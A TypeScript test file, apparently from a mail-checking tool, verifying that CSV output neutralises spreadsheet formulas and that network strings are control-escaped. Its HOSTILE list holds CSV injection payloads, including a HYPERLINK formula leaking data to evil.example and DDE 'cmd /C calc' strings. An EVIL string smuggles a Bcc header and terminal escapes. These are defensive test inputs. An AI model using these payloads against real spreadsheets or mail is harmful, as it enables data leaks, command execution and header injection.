// Clean strings (issue 12): the one CSV cell writer neutralises formulas (full-width forms and leading
// tab/CR/NUL included, OWASP CSV injection) in every CSV we write — the ingest rejects file and the report
// CSVs — and control characters from the network are escaped before a terminal or a mail shows them.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, writeFile, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { createTestDatabase, type TestDatabase } from './helpers/db.ts';
import { ingestFile } from '../ingest/ingest.ts';
import { csvCell } from '../lib/csv-cell.ts';
import { escapeControls } from '../lib/clean-text.ts';
import { domainsCsv } from '../reports/csv.ts';
import { composeResultMail, renderDiagnosis, type DiagnosisView } from '../receiver/result-mail.ts';
import { renderCheckTable } from '../cli/commands/check.ts';
import { CRITERIA } from '../lib/criteria.ts';

let tdb: TestDatabase;
let dir: string;
before(async () => {
  [tdb, dir] = await Promise.all([createTestDatabase(), mkdtemp(path.join(tmpdir(), 'mc-clean-'))]);
});
after(async () => {
  await tdb?.drop();
  await rm(dir, { recursive: true, force: true });
});

/** Would a spreadsheet read this parsed cell as a formula? (its first non-blank character starts one) */
const formula = (cell: string) => /^[\s\u0000\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell);

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  '+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '\u0000=1+1',
  '\uff1d1+1', // full-width =
  '\uff0bcmd', // full-width +
  '\uff20SUM(A1)', // full-width @
  ' \u3000=1+1',
];

test('the rejects CSV of ingest neutralises every formula, full-width and after leading tab/CR/NUL', async () => {
  const file = path.join(dir, 'hostile.csv');
  // One column of "domains", each an injection attempt; all are rejected and land in the rejects file.
  // (A NUL byte makes ingest refuse the file as binary, a guard of its own; csvCell is tested with it below.)
  const lines = ['domain', ...HOSTILE.filter((h) => !h.includes('\u0000')).map((h) => `"${h.replace(/"/g, '""')}"`)];
  await writeFile(file, `${lines.join('\r\n')}\r\n`);
  const s = await ingestFile(tdb.sql, { file, survey: 'hostile' });
  assert.equal(s.rejected, HOSTILE.length - 1);
  const text = await readFile(s.rejectsFile!, 'utf8');
  const rows = (parse(text, { bom: true, relax_quotes: true }) as string[][]).slice(1);
  assert.equal(rows.length, HOSTILE.length - 1);
  for (const row of rows) for (const cell of row) assert.ok(!formula(cell), `rejects cell would run as a formula: ${JSON.stringify(cell)}`);
  assert.ok(!/\u0000/.test(text), 'no NUL byte in the file');
});

test('csvCell: formulas get a leading quote; numbers, dates and plain text are untouched; quoting per RFC 4180', () => {
  for (const h of HOSTILE) {
    const cell = csvCell(h);
    const [parsed] = parse(`${cell}\r\n`, { relax_quotes: true }) as string[][];
    assert.ok(!formula(parsed[0]), `${JSON.stringify(h)} → ${JSON.stringify(cell)}`);
    assert.ok(parsed[0].startsWith("'"), `${JSON.stringify(h)} → ${JSON.stringify(cell)}`);
  }
  assert.equal(csvCell(-5), '-5');
  assert.equal(csvCell('example.jp'), 'example.jp');
  assert.equal(csvCell('a,b'), '"a,b"');
  assert.equal(csvCell('say "hi"'), '"say ""hi"""');
  assert.equal(csvCell('two\r\nlines'), '"two\r\nlines"');
  assert.equal(csvCell(new Date('2021-06-30T00:00:00Z')), '2021-06-30T00:00:00.000Z');
  assert.equal(csvCell('esc\u001b[31mred'), 'esc\\x1b[31mred');
});

test('the report CSVs use the same writer: a full-width formula in an organization name is neutralised', () => {
  const csv = domainsCsv([{ domain: 'a.example', organization: '\uff1dHYPERLINK("x")', industry: '\u0000=1', verdict: 'safe' }]);
  const rows = (parse(csv, { bom: true, relax_quotes: true }) as string[][]).slice(1);
  for (const cell of rows[0]) assert.ok(!formula(cell), JSON.stringify(cell));
});

const EVIL = 'mx.evil.example\r\nBcc: victim@example.com\u001b[2J\u001b]0;pwned\u0007\u202e';
function view(): DiagnosisView {
  const criteria = Object.fromEntries(CRITERIA.map((c) => [c, { status: 'ok', reason: 'ok', detail: `PTR ${EVIL}` }])) as DiagnosisView['criteria'];
  return { id: '1', source: 'test-mail', domain: 'evil.example', observedAt: new Date(0), verdict: 'safe', criteria, verdictReasons: [], ignored: [] };
}

test('strings from the network reach neither the result mail nor the terminal with their control characters', () => {
  const mail = composeResultMail(view());
  const text = `${mail.subject}\n${mail.text}`;
  assert.ok(!/[\u0000-\u0008\u000b-\u001f\u007f\u202e]/.test(text), 'no control character in the result mail');
  assert.ok(!/\r\nBcc:/.test(text) && !/^Bcc:/m.test(text), 'no injected header line');
  assert.match(text, /\\x0d\\x0aBcc: victim@example\.com\\x1b\[2J/);
  const shown = renderDiagnosis(view(), 'en');
  assert.ok(!/\u001b/.test(shown));
  const table = renderCheckTable([{ key: 'reverse_dns', kind: 'criterion', status: 'ok', reason: 'ptr', detail: EVIL }], 'en');
  assert.ok(!/[\u001b\u0007\r\u202e]/.test(table), JSON.stringify(table));
  assert.equal(escapeControls('a\u009bb'), 'a\\x9bb', 'the 8-bit CSI is escaped too');
});
